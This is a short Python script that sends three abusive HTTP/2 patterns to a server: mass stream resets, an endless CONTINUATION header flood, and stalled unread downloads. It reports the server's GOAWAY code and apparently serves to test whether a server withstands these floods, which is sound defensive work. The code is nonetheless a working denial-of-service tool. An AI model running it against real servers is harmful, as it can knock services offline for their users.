#!/usr/bin/python3
"""Does to an HTTP/2 server what no client does: h2abuse.py HOST WHAT. Prints the GOAWAY's code, or `none`.

reset     10,000 streams that are cancelled at once
continue  a header block without an end
stall     60 downloads of PATH that nothing is read of; ends when its input does
"""

import os
import socket
import ssl
import struct
import sys

import hpack

HOST, WHAT = sys.argv[1:3]
GET = [(":method", "GET"), (":scheme", "https"), (":authority", HOST), (":path", sys.argv[3] if len(sys.argv) > 3 else "/")]


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def goaway(s):
    """Reads to the end; the code of a GOAWAY."""
    code, data = "none", b""
    try:
        while True:
            more = s.recv(65536)
            if not more:
                break
            data += more
    except OSError:
        pass
    while len(data) >= 9:
        n = int.from_bytes(data[:3], "big")
        if data[3] == 7 and len(data) >= 17:
            code = int.from_bytes(data[13:17], "big")
        data = data[9 + n:]
    return code


context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
context.set_alpn_protocols(["h2"])
s = context.wrap_socket(socket.create_connection((HOST, 443)), server_hostname=HOST)
s.settimeout(20)
s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
encoder = hpack.Encoder()
try:
    if WHAT == "reset":
        for i in range(10000):
            s.sendall(frame(1, 5, 2 * i + 1, encoder.encode(GET)) + frame(3, 0, 2 * i + 1, struct.pack("!I", 8)))
    elif WHAT == "continue":
        s.sendall(frame(1, 1, 1, encoder.encode(GET)))
        for _ in range(100000):
            s.sendall(frame(9, 0, 1, encoder.encode([("x", "y" * 100)])))
    else:
        for i in range(60):
            s.sendall(frame(1, 5, 2 * i + 1, encoder.encode(GET)))
        print("ready", flush=True)
        sys.stdin.read()
        sys.exit()
except OSError:
    pass
print(goaway(s))
